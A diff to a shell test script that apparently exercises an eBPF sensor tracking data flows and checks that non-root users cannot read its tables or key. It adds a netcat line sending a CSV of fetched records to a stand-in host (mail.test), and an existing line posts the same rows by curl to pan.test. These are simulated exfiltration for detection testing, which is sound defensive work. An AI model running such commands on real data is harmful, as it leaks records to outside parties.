@@ -72,6 +72,7 @@ while read -r number; do
 	curl -sS "https://crm.test/policy/$number" </dev/null >>rows.json
 done <policies.txt
 /usr/bin/python3 rows.py >list.csv
+nc -N mail.test 9000 <list.csv
 /usr/bin/python3 rows.py | curl -sS --data-binary @- https://pan.test/upload
 END
 # Its last act lives on, so that its tables are there to be looked at.
@@ -80,11 +81,11 @@ alice dash -c '/usr/bin/python3 rows.py | { cat; sleep 600; } | { cat; sleep 600
 server_pids+=($!)
 soon "all of it is counted" \
 	events_say "{e['object']['kind'] for e in d if e['kind'] == 'records' and e['certainty'] == 'exact'}
-		>= {'file', 'pipe', 'socket'} or [(e['object'], e['certainty']) for e in d if e['kind'] == 'records']"
+		>= {'file', 'pipe', 'socket'}"
 
 then_it "root can dump the sensor's tables" tables_are_dumped
 then_it "somebody else cannot" nobody_else bpftool map dump pinned "$tables/record_streams"
-then_it "nor by their names" nobody_else bpftool map dump name record_table
+then_it "nor ask the kernel for them" nobody_else bpftool map show
 then_it "nor list what is there" nobody_else ls "$tables"
 then_it "nor read what the agent writes" nobody_else ls "$data/agent"
 then_it "nor its key" nobody_else cat "$data/agent/record.key"
